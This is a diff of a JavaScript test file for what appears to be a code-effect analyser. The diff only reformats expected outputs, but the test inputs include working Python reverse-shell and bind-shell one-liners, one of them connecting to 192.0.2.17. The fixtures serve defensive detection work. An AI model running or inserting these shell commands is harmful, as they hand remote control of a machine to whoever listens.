@@ -168,12 +168,16 @@ describe('effects', () => {
     [
       'reverse shell by dup2',
       'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("192.0.2.17",1496));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);',
-      ['connect to={host=192.0.2.17 port=1496 protocol=tcp} shell={program=/bin/sh how=standard streams copied onto the socket}'],
+      [
+        'connect to={host=192.0.2.17 port=1496 protocol=tcp} shell={program=/bin/sh how=standard streams copied onto the socket}',
+      ],
     ],
     [
       'pty over a socket',
       'import socket,os,pty\ns=socket.socket()\ns.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))))\n[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\npty.spawn("/bin/sh")',
-      ['connect to={host=‹$RHOST› port=‹int()› protocol=tcp} shell={program=/bin/sh how=standard streams copied onto the socket}'],
+      [
+        'connect to={host=‹$RHOST› port=‹int()› protocol=tcp} shell={program=/bin/sh how=standard streams copied onto the socket}',
+      ],
     ],
     [
       'socket as stdio of a process',
@@ -188,7 +192,9 @@ describe('effects', () => {
     [
       'bind shell',
       'import socket,os,subprocess\ns=socket.socket()\ns.bind(("0.0.0.0",4444))\ns.listen(1)\nc,a=s.accept()\nos.dup2(c.fileno(),0)\nsubprocess.call(["/bin/sh","-i"])',
-      ['listen at={host=0.0.0.0 port=4444 protocol=tcp} shell={program=/bin/sh how=standard streams copied onto the socket}'],
+      [
+        'listen at={host=0.0.0.0 port=4444 protocol=tcp} shell={program=/bin/sh how=standard streams copied onto the socket}',
+      ],
     ],
     [
       'download and exec',
